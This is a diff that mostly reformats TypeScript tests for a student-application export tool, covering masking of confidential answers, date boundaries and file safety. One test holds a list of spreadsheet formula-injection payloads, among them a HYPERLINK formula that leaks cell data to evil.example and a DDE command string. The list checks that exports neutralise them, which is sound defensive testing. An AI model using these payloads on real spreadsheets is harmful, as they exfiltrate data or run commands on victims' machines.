@@ -16,15 +16,25 @@ const ssn = '123-45-6789';
 beforeAll(async () => {
   server = await startTestApp();
   const ada = await server.studentAlready('ada@example.org');
-  expect((await ada.call('PUT', '/api/answer', { answers: { ...completeAnswers, ssn, essay: 'Zoë said: "Yes",\nand left.' } })).status).toBe(200);
+  expect(
+    (
+      await ada.call('PUT', '/api/answer', {
+        answers: { ...completeAnswers, ssn, essay: 'Zoë said: "Yes",\nand left.' },
+      })
+    ).status,
+  ).toBe(200);
   expect((await ada.call('POST', '/api/submit')).status).toBe(200);
   const draft = await server.studentAlready('draft@example.org');
   await draft.call('PUT', '/api/answer', { answers: { first_name: 'Nobody yet' } });
-  const { rows: [row] } = await server.dependencies.database.query<{ application_id: string }>('SELECT application_id FROM submission');
+  const {
+    rows: [row],
+  } = await server.dependencies.database.query<{ application_id: string }>('SELECT application_id FROM submission');
   number = applicationNumber(row!.application_id);
 });
 afterAll(async () => server.stop());
-beforeEach(() => { folder = mkdtempSync(join(tmpdir(), 'quire-export-')); });
+beforeEach(() => {
+  folder = mkdtempSync(join(tmpdir(), 'quire-export-'));
+});
 afterEach(() => rmSync(folder, { recursive: true }));
 
 async function exported(format: 'csv' | 'jsonl', ...args: string[]): Promise<string> {
@@ -34,38 +44,88 @@ async function exported(format: 'csv' | 'jsonl', ...args: string[]): Promise<str
   rmSync(output);
   return text;
 }
-const csv = async (...args: string[]): Promise<Record<string, string>[]> => parse(await exported('csv', ...args), { bom: true, columns: true });
-const jsonl = async (...args: string[]): Promise<Record<string, unknown>[]> => (await exported('jsonl', ...args)).split('\n').filter(Boolean).map((line) => JSON.parse(line) as Record<string, unknown>);
+const csv = async (...args: string[]): Promise<Record<string, string>[]> =>
+  parse(await exported('csv', ...args), { bom: true, columns: true });
+const jsonl = async (...args: string[]): Promise<Record<string, unknown>[]> =>
+  (await exported('jsonl', ...args))
+    .split('\n')
+    .filter(Boolean)
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
 
 /** A submission of somebody of his own, as it would be kept. */
 async function submitted(email: string, answers: Record<string, string>, at = '2026-09-01T12:00:00Z'): Promise<void> {
   await server.studentAlready(email);
   await server.dependencies.database.query(
     `INSERT INTO submission (application_id, submitted_at, questionnaire_version, answers, tabs, add_another, documents)
-     SELECT application_id, $3, 'v', $2, '{}', '{}', '{}' FROM account WHERE email = $1`, [email, JSON.stringify(answers), at]);
+     SELECT application_id, $3, 'v', $2, '{}', '{}', '{}' FROM account WHERE email = $1`,
+    [email, JSON.stringify(answers), at],
+  );
 }
-const remove = (email: string): Promise<unknown> => server.dependencies.database.query('DELETE FROM account WHERE email LIKE $1', [email]);
+const remove = (email: string): Promise<unknown> =>
+  server.dependencies.database.query('DELETE FROM account WHERE email LIKE $1', [email]);
 
 test('a table has a row for each submission and a column for each question, in the order of the questionnaire', async () => {
   const [row, ...others] = await csv();
   expect(others).toEqual([]);
   expect(Object.keys(row!)).toEqual([
-    'application-number', 'submitted-on', 'account-email', 'student-type', 'first_name', 'citizenship_type', 'citizenship_type_desc', 'visa', 'race_a', 'race_b', 'ssn',
-    'hs_name', 'hs_2_name', 'hs_3_name', 'essay', 'essay_doc',
+    'application-number',
+    'submitted-on',
+    'account-email',
+    'student-type',
+    'first_name',
+    'citizenship_type',
+    'citizenship_type_desc',
+    'visa',
+    'race_a',
+    'race_b',
+    'ssn',
+    'hs_name',
+    'hs_2_name',
+    'hs_3_name',
+    'essay',
+    'essay_doc',
   ]);
   expect(row).toMatchObject({
-    'application-number': number, 'submitted-on': '2026-09-01', 'account-email': 'ada@example.org', 'student-type': 'Freshman',
-    first_name: 'Ada', citizenship_type: '1', citizenship_type_desc: 'Citizen', visa: '', hs_name: 'Hill High', essay: 'Zoë said: "Yes",\nand left.', ssn: '••••••••',
+    'application-number': number,
+    'submitted-on': '2026-09-01',
+    'account-email': 'ada@example.org',
+    'student-type': 'Freshman',
+    first_name: 'Ada',
+    citizenship_type: '1',
+    citizenship_type_desc: 'Citizen',
+    visa: '',
+    hs_name: 'Hill High',
+    essay: 'Zoë said: "Yes",\nand left.',
+    ssn: '••••••••',
   });
   const [labelled] = await csv('--labels');
-  expect(labelled).toMatchObject({ 'You: First name': 'Ada', 'You: Citizenship (text)': 'Citizen', 'You: Race: A': '', 'School 1: Name': 'Hill High', 'Schools: Essay [essay]': expect.stringContaining('Zoë'), 'Schools: Essay [essay_doc]': '' });
+  expect(labelled).toMatchObject({
+    'You: First name': 'Ada',
+    'You: Citizenship (text)': 'Citizen',
+    'You: Race: A': '',
+    'School 1: Name': 'Hill High',
+    'Schools: Essay [essay]': expect.stringContaining('Zoë'),
+    'Schools: Essay [essay_doc]': '',
+  });
 });
 
 test('a line of JSON has all that was submitted, as it is kept', async () => {
-  const { rows: [row] } = await server.dependencies.database.query('SELECT questionnaire_version, tabs, add_another, documents, left_aside FROM submission');
-  expect(await jsonl('--with-sensitive')).toEqual([{
-    ...row, number, email: 'ada@example.org', intended_student_type: 'Freshman', submitted_on: '2026-09-01', submitted_at: '2026-09-01T12:00:00.000Z', answers: { ...completeAnswers, ssn, essay: 'Zoë said: "Yes",\nand left.' },
-  }]);
+  const {
+    rows: [row],
+  } = await server.dependencies.database.query(
+    'SELECT questionnaire_version, tabs, add_another, documents, left_aside FROM submission',
+  );
+  expect(await jsonl('--with-sensitive')).toEqual([
+    {
+      ...row,
+      number,
+      email: 'ada@example.org',
+      intended_student_type: 'Freshman',
+      submitted_on: '2026-09-01',
+      submitted_at: '2026-09-01T12:00:00.000Z',
+      answers: { ...completeAnswers, ssn, essay: 'Zoë said: "Yes",\nand left.' },
+    },
+  ]);
 });
 
 test('a confidential answer stands there in clear only where that was asked for', async () => {
@@ -73,19 +133,40 @@ test('a confidential answer stands there in clear only where that was asked for'
   expect((await csv('--with-sensitive'))[0]).toMatchObject({ ssn });
   // It was submitted before its question was called confidential.
   await submitted('before@example.org', { ssn: '987-65-4321' });
-  expect(await exported('csv') + await exported('jsonl')).not.toContain('4321');
+  expect((await exported('csv')) + (await exported('jsonl'))).not.toContain('4321');
   await remove('before@example.org');
 });
 
 test('R48 an answer that is only encrypted at rest stands there in clear, and a list of applications opens none', async () => {
   const { database, secrets, config } = server.dependencies;
-  const answers = { visa: 'F-1 ü', ssn, citizenship_type: '2', citizenship_type_desc: 'Resident', first_name: 'Ada', hobby: 'no question now' };
+  const answers = {
+    visa: 'F-1 ü',
+    ssn,
+    citizenship_type: '2',
+    citizenship_type_desc: 'Resident',
+    first_name: 'Ada',
+    hobby: 'no question now',
+  };
   await submitted('sealed@example.org', {}, '2026-09-05T12:00:00Z');
-  const { rows: [row] } = await database.query<{ application_id: string }>("SELECT application_id FROM account WHERE email = 'sealed@example.org'");
+  const {
+    rows: [row],
+  } = await database.query<{ application_id: string }>(
+    "SELECT application_id FROM account WHERE email = 'sealed@example.org'",
+  );
   const id = row!.application_id;
   const sealed = JSON.stringify(sealAnswers(secrets, id, answers, Object.keys(answers)));
-  for (const table of ['submission', 'application']) await database.query(`UPDATE ${table} SET answers = $2 WHERE application_id = $1`, [id, sealed]);
-  const office: TestApp = { ...server, dependencies: { ...server.dependencies, config: { ...config, questionnaire: { ...config.questionnaire, encrypted: ['visa', 'ssn', 'citizenship_type', 'first_name'] } } } };
+  for (const table of ['submission', 'application'])
+    await database.query(`UPDATE ${table} SET answers = $2 WHERE application_id = $1`, [id, sealed]);
+  const office: TestApp = {
+    ...server,
+    dependencies: {
+      ...server.dependencies,
+      config: {
+        ...config,
+        questionnaire: { ...config.questionnaire, encrypted: ['visa', 'ssn', 'citizenship_type', 'first_name'] },
+      },
+    },
+  };
   const output = join(folder, 'all.jsonl');
   async function read(...args: string[]): Promise<unknown> {
     await staff(office, 'export', '--format', 'jsonl', '--since', '2026-09-05', '--output', output, ...args);
@@ -101,10 +182,37 @@ test('R48 an answer that is only encrypted at rest stands there in clear, and a 
 
 test('R57 no text that somebody typed is a formula in a spreadsheet, or a cell or a row of its own', async () => {
   const corpus = [
-    '=HYPERLINK("https://evil.example?"&A1,"open")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\uff1d1', '\uff0b1', '\uff0d1', '\uff201',
-    '"=1', '","=1', '",\r\n"=1', '\'=1', ';=1', '=1;', '\ufeff=1', '\r\n\r\n', '"', '""', ',',
+    '=HYPERLINK("https://evil.example?"&A1,"open")',
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1,1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u00a0=1',
+    '\uff1d1',
+    '\uff0b1',
+    '\uff0d1',
+    '\uff201',
+    '"=1',
+    '","=1',
+    '",\r\n"=1',
+    "'=1",
+    ';=1',
+    '=1;',
+    '\ufeff=1',
+    '\r\n\r\n',
+    '"',
+    '""',
+    ',',
   ];
-  for (const [at, text] of corpus.entries()) await submitted(`hostile${at}@example.org`, { first_name: text, essay: text, [`gone_${at}`]: 'x' }, '2026-09-02T12:00:00Z');
+  for (const [at, text] of corpus.entries())
+    await submitted(
+      `hostile${at}@example.org`,
+      { first_name: text, essay: text, [`gone_${at}`]: 'x' },
+      '2026-09-02T12:00:00Z',
+    );
   const rows = await csv('--since', '2026-09-02');
   const read = new Map(rows.map((row) => [row['account-email'], row]));
   expect(rows).toHaveLength(corpus.length);
@@ -116,7 +224,11 @@ test('R57 no text that somebody typed is a formula in a spreadsheet, or a cell o
     }
     expect(row[`gone_${at}`]).toBe('x');
   }
-  expect((await jsonl('--since', '2026-09-02')).map(({ answers }) => (answers as Record<string, string>)['essay']).toSorted()).toEqual(corpus.toSorted());
+  expect(
+    (await jsonl('--since', '2026-09-02'))
+      .map(({ answers }) => (answers as Record<string, string>)['essay'])
+      .toSorted(),
+  ).toEqual(corpus.toSorted());
   await remove('hostile%');
 });
 
@@ -131,8 +243,12 @@ test('an answer that is asked no more has a column behind all others', async () 
 test('a day begins where the institution is', async () => {
   await submitted('evening@example.org', {}, '2026-10-02T03:59:59Z');
   await submitted('morning@example.org', {}, '2026-10-02T04:00:00Z');
-  const since = async (day: string): Promise<unknown> => (await csv('--since', day)).map((row) => [row['account-email'], row['submitted-on']]);
-  expect(await since('2026-10-01')).toEqual([['evening@example.org', '2026-10-01'], ['morning@example.org', '2026-10-02']]);
+  const since = async (day: string): Promise<unknown> =>
+    (await csv('--since', day)).map((row) => [row['account-email'], row['submitted-on']]);
+  expect(await since('2026-10-01')).toEqual([
+    ['evening@example.org', '2026-10-01'],
+    ['morning@example.org', '2026-10-02'],
+  ]);
   expect(await since('2026-10-02')).toEqual([['morning@example.org', '2026-10-02']]);
   expect(await since('2026-10-03')).toEqual([]);
   await remove('%ing@example.org');
@@ -140,18 +256,28 @@ test('a day begins where the institution is', async () => {
 
 test('a file is for its owner alone, is written over nothing, and is there as a whole or not at all', async () => {
   const output = join(folder, 'all.csv');
-  expect(await staff(server, 'export', '--format', 'csv', '--output', output)).toBe(`1 submitted application is in ${output}\nYou alone can read this file. Confidential answers are masked in it.`);
+  expect(await staff(server, 'export', '--format', 'csv', '--output', output)).toBe(
+    `1 submitted application is in ${output}\nYou alone can read this file. Confidential answers are masked in it.`,
+  );
   expect(statSync(output).mode & 0o777).toBe(0o600);
   const before = readFileSync(output, 'utf8');
-  await expect(staff(server, 'export', '--format', 'csv', '--output', output)).rejects.toThrow(`${output} is there already, and was left as it is.`);
+  await expect(staff(server, 'export', '--format', 'csv', '--output', output)).rejects.toThrow(
+    `${output} is there already, and was left as it is.`,
+  );
   expect(readFileSync(output, 'utf8')).toBe(before);
   // The second row cannot be opened: its answer was sealed for somebody else.
   await submitted('moved@example.org', {}, '2026-09-05T12:00:00Z');
-  await server.dependencies.database.query("UPDATE submission SET answers = (SELECT answers FROM submission WHERE submitted_at = '2026-09-01T12:00:00Z') WHERE submitted_at > '2026-09-05'");
-  await expect(staff(server, 'export', '--format', 'jsonl', '--with-sensitive', '--output', join(folder, 'broken.jsonl'))).rejects.toThrow();
+  await server.dependencies.database.query(
+    "UPDATE submission SET answers = (SELECT answers FROM submission WHERE submitted_at = '2026-09-01T12:00:00Z') WHERE submitted_at > '2026-09-05'",
+  );
+  await expect(
+    staff(server, 'export', '--format', 'jsonl', '--with-sensitive', '--output', join(folder, 'broken.jsonl')),
+  ).rejects.toThrow();
   expect(readdirSync(folder)).toEqual(['all.csv']);
   await remove('moved@example.org');
-  await expect(staff(server, 'export', '--format', 'csv', '--output', join(folder, 'no', 'folder.csv'))).rejects.toThrow('cannot be written (ENOENT)');
+  await expect(
+    staff(server, 'export', '--format', 'csv', '--output', join(folder, 'no', 'folder.csv')),
+  ).rejects.toThrow('cannot be written (ENOENT)');
 });
 
 test('where nobody says where, the file stays with the data', async () => {
